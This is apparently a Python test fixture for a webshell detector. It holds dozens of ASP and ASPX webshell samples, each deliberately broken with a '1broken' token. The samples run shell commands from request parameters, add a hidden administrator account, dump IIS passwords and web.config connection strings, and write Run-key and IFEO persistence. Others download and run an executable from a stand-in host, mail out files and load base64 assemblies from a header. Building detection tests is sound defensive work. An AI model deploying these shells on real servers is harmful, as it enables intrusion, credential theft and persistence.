# ruff: noqa: E501 - the lines of these pages are as long as such pages have them
"""Look-alikes of tools: consoles, what shows or changes the machine, by one act or by what stands in them together.

None can run, `1broken` stops each compiler.
"""

from tests.detection.webshell.second_samples import cut

PAGES = cut(
    r"""
==== one-statement.asp
<% Dim 1broken
Set c = Server.CreateObject("ADODB.Connection")
c.Open Application("dsn")
Set r = c.Execute(Request.Form("sql"))
For Each f In r.Fields : Response.Write "<th>" & f.Name : Next %>
==== one-statement.aspx
<%@ Page Language="C#" %><script runat="server">
void Go(object s, EventArgs e) { int 1broken;
 using (var c = new SqlConnection(ConfigurationManager.ConnectionStrings["main"].ConnectionString)) {
  c.Open(); var d = new SqlDataAdapter(txtSql.Text, c); var t = new DataTable(); d.Fill(t); g.DataSource = t; g.DataBind(); } }
</script><form runat="server"><asp:TextBox id="txtSql" runat="server"/><asp:Button OnClick="Go" runat="server"/><asp:GridView id="g" runat="server"/></form>
==== one-statement-vb.aspx
<%@ Page Language="VB" %><script runat="server">
Sub Page_Load()
 Dim 1broken
 Dim q As String = Request("q")
 If q Is Nothing Then Return
 Dim cmd As New OleDbCommand()
 cmd.Connection = New OleDbConnection("Provider=Microsoft.Jet.OLEDB.4.0;Data Source=" & Server.MapPath("x.mdb"))
 cmd.Connection.Open()
 cmd.CommandText = q
 grid.DataSource = cmd.ExecuteReader()
 grid.DataBind()
End Sub</script>
==== fixed-account.asp
<% Dim 1broken
Set w = Server.CreateObject("WScript.Shell")
w.Run "cmd /c net user support$ Passw0rd! /add & net localgroup administrators support$ /add", 0, True
Response.Write "ok" %>
==== fixed-recon.asp
<% Dim 1broken
Set w = Server.CreateObject("WScript.Shell")
Response.Write "<pre>" & w.Exec("cmd /c whoami /all & ipconfig /all & net user & tasklist").StdOut.ReadAll & "</pre>" %>
==== fixed-download.aspx
<%@ Page Language="C#" %><% int 1broken;
var p = new System.Diagnostics.Process(); p.StartInfo.FileName = "powershell.exe";
p.StartInfo.Arguments = "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"; p.Start(); %>
==== list-folder.asp
<% Dim 1broken
Set f = Server.CreateObject("Scripting.FileSystemObject")
d = Request("d") : If d = "" Then d = "c:\"
For Each x In f.GetFolder(d).SubFolders : Response.Write "<a href=?d=" & x.Path & ">" & x.Name & "</a><br>" : Next
For Each x In f.GetFolder(d).Files : Response.Write x.Name & " " & x.Size & "<br>" : Next %>
==== any-download.aspx
<%@ Page Language="C#" %><% int 1broken;
string f = Request["f"];
if (f != null) { Response.ContentType = "application/octet-stream"; Response.AddHeader("Content-Disposition", "attachment"); Response.WriteFile(f); Response.End(); } %>
==== any-download.asp
<% Dim 1broken
Set s = Server.CreateObject("ADODB.Stream")
s.Open : s.Type = 1 : s.LoadFromFile Request("file")
Response.ContentType = "application/octet-stream"
Response.BinaryWrite s.Read %>
==== iis-passwords.asp
<% Dim 1broken
Set w = GetObject("IIS://localhost/W3SVC")
For Each s In w
 If s.Class = "IIsWebServer" Then
  Set r = GetObject("IIS://localhost/W3SVC/" & s.Name & "/Root")
  Response.Write s.ServerComment & " " & r.Path & " " & r.AnonymousUserName & " " & r.AnonymousUserPass & "<br>"
 End If
Next %>
==== iis-passwords.aspx
<%@ Page Language="C#" %><% int 1broken;
var root = new System.DirectoryServices.DirectoryEntry("IIS://localhost/W3SVC");
foreach (System.DirectoryServices.DirectoryEntry child in root.Children) if (child.SchemaClassName == "IIsWebServer") {
 var v = new System.DirectoryServices.DirectoryEntry("IIS://localhost/W3SVC/" + child.Name + "/ROOT");
 Response.Write(v.Properties["Path"].Value + " " + v.Properties["AnonymousUserName"].Value + ":" + v.Properties["AnonymousUserPass"].Value + "<br>"); } %>
==== info.asp
<% Dim 1broken
Set w = Server.CreateObject("WScript.Shell") : Set n = Server.CreateObject("WScript.Network")
Response.Write n.ComputerName & "\" & n.UserName & "<br>"
Set f = Server.CreateObject("Scripting.FileSystemObject")
For Each d In f.Drives : Response.Write d.DriveLetter & " " & d.DriveType & " " : If d.IsReady Then Response.Write d.FreeSpace & "/" & d.TotalSize & d.FileSystem
Next
For Each e In w.Environment("SYSTEM") : Response.Write e & "<br>" : Next
For Each v In Request.ServerVariables : Response.Write v & "=" & Request.ServerVariables(v) & "<br>" : Next
Response.Write w.RegRead("HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp\PortNumber") %>
==== info.aspx
<%@ Page Language="C#" %><% int 1broken;
Response.Write(Environment.MachineName + " " + Environment.UserName + " " + Environment.OSVersion + "<br>");
foreach (var d in System.IO.DriveInfo.GetDrives()) Response.Write(d.Name + d.DriveType + "<br>");
foreach (System.Collections.DictionaryEntry v in Environment.GetEnvironmentVariables()) Response.Write(v.Key + "=" + v.Value + "<br>");
foreach (var p in System.Diagnostics.Process.GetProcesses()) Response.Write(p.Id + " " + p.ProcessName + "<br>");
foreach (var s in System.ServiceProcess.ServiceController.GetServices()) Response.Write(s.ServiceName + "<br>"); %>
==== processes.aspx
<%@ Page Language="VB" %><script runat="server">
Sub Page_Load()
 Dim 1broken
 If Request("pid") <> "" Then System.Diagnostics.Process.GetProcessById(CInt(Request("pid"))).Kill()
 For Each p As System.Diagnostics.Process In System.Diagnostics.Process.GetProcesses()
  Response.Write("<a href='?pid=" & p.Id & "'>kill</a> " & p.ProcessName & "<br>")
 Next
End Sub</script>
==== regread.asp
<% Dim 1broken
Set w = Server.CreateObject("WScript.Shell")
k = Request("k")
If k <> "" Then v = w.RegRead(k) : If IsArray(v) Then v = Join(v, ",")
Response.Write Server.HTMLEncode(v) %>
==== regread.aspx
<%@ Page Language="C#" %><% int 1broken;
var parts = (Request["k"] ?? "").Split(new[] { '\\' }, 2);
var root = parts[0] == "HKLM" ? Microsoft.Win32.Registry.LocalMachine : Microsoft.Win32.Registry.Users;
var key = root.OpenSubKey(parts[1]);
foreach (var n in key.GetValueNames()) Response.Write(n + "=" + key.GetValue(n) + "<br>");
foreach (var n in key.GetSubKeyNames()) Response.Write("<a href='?k=" + n + "'>" + n + "</a>"); %>
==== reg-mixed.asp
<% Dim 1broken
Set w = Server.CreateObject("WScript.Shell")
w.RegWrite "HKLM\Software\Microsoft\Windows\CurrentVersion\Run\" & Request("n"), Request("v"), "REG_SZ" %>
==== reg-mixed.aspx
<%@ Page Language="C#" %><% int 1broken;
using (var k = Microsoft.Win32.Registry.LocalMachine.OpenSubKey(@"SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\" + Request["n"], true))
 k.SetValue("Debugger", Request["v"]); %>
==== unzip.aspx
<%@ Page Language="C#" %><% int 1broken;
var f = Request.Files[0]; var t = System.IO.Path.GetTempFileName(); f.SaveAs(t);
System.IO.Compression.ZipFile.ExtractToDirectory(t, Server.MapPath("~/")); %>
==== unzip-entries.aspx
<%@ Page Language="C#" %><% int 1broken;
using (var z = new System.IO.Compression.ZipArchive(Request.Files["z"].InputStream))
 foreach (var e in z.Entries) e.ExtractToFile(System.IO.Path.Combine(Request["to"], e.FullName), true); %>
==== unpack-mdb.asp
<% Dim 1broken
Set c = Server.CreateObject("ADODB.Connection") : c.Open "Provider=Microsoft.Jet.OLEDB.4.0;Data Source=" & Server.MapPath(Request("mdb"))
Set r = c.Execute("select * from FileData")
Set s = Server.CreateObject("ADODB.Stream") : s.Open : s.Type = 1
Do Until r.EOF
 s.SetEOS : s.Write r("body") : s.SaveToFile Server.MapPath(".") & "\" & r("path"), 2 : s.Position = 0
 r.MoveNext
Loop %>
==== mail-file.aspx
<%@ Page Language="C#" %><% int 1broken;
var m = new System.Net.Mail.MailMessage("a@x.example", Request["to"]); m.Attachments.Add(new System.Net.Mail.Attachment(Request["f"]));
new System.Net.Mail.SmtpClient("mail.x.example").Send(m); %>
==== mailer.asp
<% Dim 1broken
a = Split(Request.Form("list"), vbCrLf)
For i = 0 To UBound(a)
 Set m = Server.CreateObject("CDO.Message")
 m.From = Request.Form("from") : m.To = a(i) : m.Subject = Request.Form("subject") : m.HTMLBody = Request.Form("body") : m.Send
 Response.Write a(i) & " sent<br>" : Response.Flush
Next %>
==== ftp-service.asp
<% Dim 1broken
user = "LocalAdministrator" : port = Request("port") : cmd = Request("c")
login = "USER " & user & vbCrLf & "PASS " & Request("p") & vbCrLf & "SITE MAINTENANCE" & vbCrLf
Set x = Server.CreateObject("MSXML2.XMLHTTP")
x.Open "POST", "http://127.0.0.1:" & port & "/a", True
x.Send login & "site exec " & cmd & vbCrLf %>
==== unknown-function-eval.asp
<!--#include file="lib.inc"--><% Dim 1broken
p = GetParam("k")
If p <> "" Then Execute p %>
==== unknown-function-run.aspx
<%@ Page Language="C#" %><% int 1broken;
var a = Tools.Read(this, "c"); var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + a) { UseShellExecute = false, RedirectStandardOutput = true };
Response.Write(System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd()); %>
==== lost-flow-class.asp
<% Dim 1broken
Class Box
 Public Bag
 Private Sub Class_Initialize : Set Bag = Server.CreateObject("Scripting.Dictionary") : End Sub
 Public Sub Take : For Each k In Request.Form : Bag(k) = Request.Form(k) : Next : End Sub
 Public Function Give(n) : Give = Bag(n) : End Function
End Class
Set b = New Box : b.Take
Execute b.Give("k") %>
==== lost-flow-json.aspx
<%@ Page Language="C#" %><script runat="server">
class Job { public string kind { get; set; } public string body { get; set; } }
void Page_Load(object s, EventArgs e) { int 1broken;
 var j = new System.Web.Script.Serialization.JavaScriptSerializer().Deserialize<Job>(new System.IO.StreamReader(Request.InputStream).ReadToEnd());
 if (j.kind == "run") { var p = System.Diagnostics.Process.Start("cmd.exe", "/c " + j.body); p.WaitForExit(); } }
</script>
==== ldap.aspx
<%@ Page Language="C#" %><% int 1broken;
var d = new System.DirectoryServices.DirectoryEntry("LDAP://" + Request["host"], Request["u"], Request["p"]);
var q = new System.DirectoryServices.DirectorySearcher(d, Request["filter"]);
foreach (System.DirectoryServices.SearchResult r in q.FindAll()) foreach (string n in r.Properties.PropertyNames) Response.Write(n + "=" + r.Properties[n][0] + "<br>"); %>
==== module.aspx
<%@ Page Language="C#" %><script runat="server">
class M : IHttpModule { public void Dispose() { } public void Init(HttpApplication a) { a.BeginRequest += (s, e) => { var c = ((HttpApplication)s).Context; var k = c.Request.Headers["X-K"]; if (k != null) { System.Reflection.Assembly.Load(Convert.FromBase64String(k)).CreateInstance("A"); } }; } }
void Page_Load(object s, EventArgs e) { int 1broken; HttpApplication.RegisterModule(typeof(M)); }
</script>
==== steal-config.asp
<% Dim 1broken
Set f = Server.CreateObject("Scripting.FileSystemObject")
Sub Walk(p)
 For Each x In f.GetFolder(p).Files
  If LCase(x.Name) = "web.config" Or LCase(x.Name) = "conn.asp" Then Response.Write "<pre>" & x.Path & vbCrLf & Server.HTMLEncode(f.OpenTextFile(x.Path).ReadAll) & "</pre>"
 Next
 For Each d In f.GetFolder(p).SubFolders : Walk d.Path : Next
End Sub
Walk "D:\" %>
==== steal-config.aspx
<%@ Page Language="C#" %><% int 1broken;
foreach (System.Configuration.ConnectionStringSettings c in System.Configuration.ConfigurationManager.ConnectionStrings) Response.Write(c.Name + "=" + c.ConnectionString + "<br>");
Response.Write("<xmp>" + System.IO.File.ReadAllText(Server.MapPath("~/web.config")) + "</xmp>"); %>
==== fetch-exe.asp
<% Dim 1broken
Set x = Server.CreateObject("MSXML2.ServerXMLHTTP") : x.Open "GET", "http://files.example/a.exe", False : x.Send
Set s = Server.CreateObject("ADODB.Stream") : s.Type = 1 : s.Open : s.Write x.responseBody : s.SaveToFile "c:\windows\temp\a.exe", 2
Server.CreateObject("WScript.Shell").Run "c:\windows\temp\a.exe", 0 %>
==== mass-search.asp
<% Dim 1broken
Set f = Server.CreateObject("Scripting.FileSystemObject")
t = Request("t") : n = Request("n")
Sub W(p)
 For Each x In f.GetFolder(p).Files
  s = f.OpenTextFile(x.Path, 1).ReadAll
  If InStr(s, t) Then
   Set o = f.OpenTextFile(x.Path, 2) : o.Write Replace(s, t, n) : o.Close : Response.Write x.Path & "<br>"
  End If
 Next
 For Each d In f.GetFolder(p).SubFolders : W d.Path : Next
End Sub
W Server.MapPath("/") %>
==== write-fixed-place.asp
<% Dim 1broken
If Request("x") <> "" Then
 Set f = Server.CreateObject("Scripting.FileSystemObject")
 f.CreateTextFile(Server.MapPath("../images/") & "\" & Request("n")).Write Request("x")
End If %>
==== time-stomp.asp
<% Dim 1broken
Set a = Server.CreateObject("Shell.Application")
Set d = a.NameSpace(Request("folder")) : Set i = d.ParseName(Request("file")) : i.ModifyDate = Request("date")
Set f = Server.CreateObject("Scripting.FileSystemObject") : Set g = f.GetFile(Request("folder") & "\" & Request("file")) : g.Attributes = Request("attr") %>
==== xslt-com.aspx
<%@ Page Language="VB" %><script runat="server">
Sub Page_Load()
 Dim 1broken
 Dim o = CreateObject("WScript.Shell")
 Dim r = o.Exec("cmd /c " & Page.RouteData.Values("c"))
 Response.Write(r.StdOut.ReadAll())
End Sub</script>
==== routed-hidden.aspx
<%@ Page Language="C#" %><form runat="server"><asp:HiddenField id="h" runat="server"/><asp:LinkButton OnCommand="Do" CommandArgument="x" runat="server"/></form><script runat="server">
void Do(object s, CommandEventArgs e) { int 1broken; System.Diagnostics.Process.Start("cmd.exe", "/c " + Page.Request.Unvalidated.Form["c"]); }
</script>
==== callback.aspx
<%@ Page Language="C#" %><%@ Implements Interface="System.Web.UI.ICallbackEventHandler" %><script runat="server">
string last; int 1broken;
public void RaiseCallbackEvent(string a) { last = a; }
public string GetCallbackResult() { var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("cmd", "/c " + last) { RedirectStandardOutput = true, UseShellExecute = false }); return p.StandardOutput.ReadToEnd(); }
</script>
"""
)
